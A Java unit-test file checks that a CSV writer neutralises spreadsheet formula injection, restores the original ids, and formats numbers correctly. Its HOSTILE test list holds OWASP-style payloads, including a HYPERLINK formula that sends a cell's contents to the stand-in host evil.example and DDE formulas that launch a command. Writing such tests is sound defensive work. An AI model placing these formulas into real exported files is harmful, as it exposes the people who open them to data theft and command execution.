package io.tessera.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Output CSVs are quoted by the CSV library and text cells are neutralised against spreadsheet
 * formula injection (OWASP "CSV Injection"), reversibly, so hostile ids come back exactly.
 */
class CsvOutputTest {
  @TempDir Path tmp;

  /** Ids an attacker or a messy source can produce; every one must come back unchanged. */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
          "+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "line one\nline two",
          "quoted \"\"\" id",
          "comma, id",
          "'already quoted",
          "''",
          "'=1+1",
          "-3.5",
          "",
          " =leading space",
          "\u001b[31mred\u001b[0m",
          "한글-id");

  private static List<String> ids() {
    List<String> ids = new ArrayList<>(HOSTILE);
    SplittableRandom rnd = new SplittableRandom(13);
    while (ids.size() < 121) {
      ids.add("c" + ids.size() + "-" + Long.toHexString(rnd.nextLong()));
    }
    return ids;
  }

  @Test
  void hostileIdsShouldRoundTripThroughTheCsvLibraryAndDuckDb() throws IOException, SQLException {
    // case 8: an id with a quoted newline gave 122 rows for 121; formulas started cells as written
    Path file = tmp.resolve("customers.csv");
    List<String> ids = ids();
    try (CsvOutput out = CsvOutput.open(file, List.of("customer_id", "monetary", "reasons"))) {
      for (int i = 0; i < ids.size(); i++) {
        out.text(ids.get(i)).number(i % 2 == 0 ? "-3.5" : "12").text("why: " + i).endRow();
      }
    }
    List<List<String>> rows = new ArrayList<>();
    try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(file)) {
      reader.forEach(r -> rows.add(r.getFields()));
    }
    assertThat(rows).hasSize(122);
    assertThat(rows.get(0)).containsExactly("customer_id", "monetary", "reasons");
    for (int i = 0; i < ids.size(); i++) {
      List<String> row = rows.get(i + 1);
      assertThat(row.get(0)).matches(c -> c.isEmpty() || "=+-@\t\r".indexOf(c.charAt(0)) < 0);
      assertThat(CsvOutput.restore(row.get(0))).isEqualTo(ids.get(i));
      assertThat(row.get(1)).isEqualTo(i % 2 == 0 ? "-3.5" : "12");
    }
    try (Store store = Store.inMemory()) {
      String path = file.toString().replace("'", "''");
      assertThat(
              store.count(
                  "SELECT count(*) FROM read_csv('"
                      + path
                      + "', header = true, all_varchar = true)"))
          .isEqualTo(121);
      assertThat(
              store.count(
                  "SELECT count(*) FROM read_csv('"
                      + path
                      + "', header = true, all_varchar = true) WHERE "
                      + CsvOutput.restoreSql("customer_id")
                      + " = '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")'"))
          .isEqualTo(1);
    }
  }

  @Test
  void aNumberCellShouldTakeOnlyANumber() throws IOException {
    try (CsvOutput out = CsvOutput.open(tmp.resolve("x.csv"), List.of("n"))) {
      assertThatThrownBy(() -> out.number("=1+1"))
          .isInstanceOf(IllegalArgumentException.class)
          .hasMessageContaining("=1+1");
      out.number("").endRow();
      out.number("-1.5E-7").endRow();
    }
  }

  @Test
  void neutralisingShouldPrefixExactlyTheOwaspLeadersAndTheApostrophe() {
    assertThat(CsvOutput.neutralise("=1")).isEqualTo("'=1");
    assertThat(CsvOutput.neutralise("+1")).isEqualTo("'+1");
    assertThat(CsvOutput.neutralise("-1")).isEqualTo("'-1");
    assertThat(CsvOutput.neutralise("@a")).isEqualTo("'@a");
    assertThat(CsvOutput.neutralise("\ta")).isEqualTo("'\ta");
    assertThat(CsvOutput.neutralise("\ra")).isEqualTo("'\ra");
    assertThat(CsvOutput.neutralise("'a")).isEqualTo("''a");
    assertThat(CsvOutput.neutralise("a=1")).isEqualTo("a=1");
    assertThat(CsvOutput.neutralise("")).isEmpty();
    assertThat(CsvOutput.restore("plain")).isEqualTo("plain");
  }

  @Test
  void theNumberScanShouldAcceptExactlyWhatTheNumberPatternAccepts() {
    SplittableRandom random = new SplittableRandom(7);
    String alphabet = "0123456789.-+eEx ";
    int accepted = 0;
    for (int i = 0; i < 300_000; i++) {
      StringBuilder b = new StringBuilder();
      int length = random.nextInt(1, 9);
      for (int k = 0; k < length; k++) {
        // digits twice as often as the rest, so that many strings are numbers
        int c = random.nextInt(alphabet.length() + 10);
        b.append(c < alphabet.length() ? alphabet.charAt(c) : (char) ('0' + c - alphabet.length()));
      }
      String text = b.toString();
      boolean expected = CsvOutput.NUMBER.matcher(text).matches();
      assertThat(CsvOutput.isNumber(text)).as("'%s'", text).isEqualTo(expected);
      accepted += expected ? 1 : 0;
    }
    assertThat(accepted).isGreaterThan(30_000).isLessThan(270_000);
    for (String number : List.of("0", "-3.5", "12.", ".5", "-1.5E-7", "2e+10", "7E3")) {
      assertThat(CsvOutput.isNumber(number)).as(number).isTrue();
    }
    for (String not : List.of("", "-", ".", "-.", "1e", "1e+", "e5", "1.2.3", "--1", "+1", "1 ")) {
      assertThat(CsvOutput.isNumber(not)).as("'%s'", not).isFalse();
    }
  }

  @Test
  void decimalShouldWriteWhatStringFormatWrites() {
    SplittableRandom random = new SplittableRandom(11);
    List<Double> values =
        new ArrayList<>(
            List.of(
                0.0,
                -0.0,
                5e-7,
                -5e-7,
                1.0000005,
                2.5e-7,
                -1e-9,
                0.1234565,
                0.1234575,
                4.35,
                9.9999995,
                -9.9999995,
                999_999_999.9999995,
                1e-300,
                Double.MIN_VALUE,
                1e300,
                Double.NaN,
                Double.POSITIVE_INFINITY,
                Double.NEGATIVE_INFINITY,
                0.5,
                1.5,
                2.5));
    for (int i = 0; i < 150_000; i++) {
      values.add(
          switch (i % 5) {
            case 0 -> random.nextDouble();
            case 1 -> (random.nextDouble() - 0.5) * Math.pow(10, random.nextInt(22) - 11);
            // halfway in decimal at the sixth place, where rounding is decided
            case 2 -> Math.round(random.nextDouble() * 1e7) / 1e7 + 5e-7;
            case 3 -> (random.nextInt(2_000_000) - 1_000_000) / 2e6;
            default -> Double.longBitsToDouble(random.nextLong());
          });
    }
    for (double v : values) {
      for (int places = 0; places <= 9; places += random.nextInt(1, 4)) {
        assertThat(CsvOutput.decimal(v, places))
            .as("%s with %d places", v, places)
            .isEqualTo(String.format(java.util.Locale.ROOT, "%." + places + "f", v));
      }
    }
  }
}
